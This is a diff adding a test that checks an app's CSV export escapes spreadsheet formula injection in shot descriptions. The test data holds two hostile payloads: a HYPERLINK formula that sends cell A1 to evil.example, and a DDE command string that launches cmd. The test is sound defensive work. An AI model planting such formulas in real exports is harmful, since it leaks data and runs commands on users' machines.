@@ -50,6 +50,20 @@ describe('episode downloads', () => {
     ]);
   });
 
+  it('sends formula-like shot text as text a spreadsheet will not run (CSV injection)', async () => {
+    const owner = await server.register();
+    const project = await fixtures.project(owner.user.id);
+    const scenario = await fixtures.scenario(project.id, owner.user.id, { name: 'Formulas' });
+    await fixtures.shot(scenario.id, 1, { description: '=HYPERLINK("https://evil.example/?"&A1,"Open")' });
+    await fixtures.shot(scenario.id, 2, { description: "@SUM(1+1)*cmd|' /C calc'!A0" });
+    const { bytes } = await download(scenario.id, 'csv', owner.accessToken);
+    const lines = bytes.toString('utf8').slice(1).trimEnd().split('\r\n');
+    expect(lines.slice(1)).toEqual([
+      `1,,Medium,Auto,4,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`,
+      `2,,Medium,Auto,4,'@SUM(1+1)*cmd|' /C calc'!A0`,
+    ]);
+  });
+
   it('sends a PDF with the shots and the stored image embedded', async () => {
     const owner = await server.register();
     const { scenario } = await episodeWithShots(owner.user.id, 'Pilot');
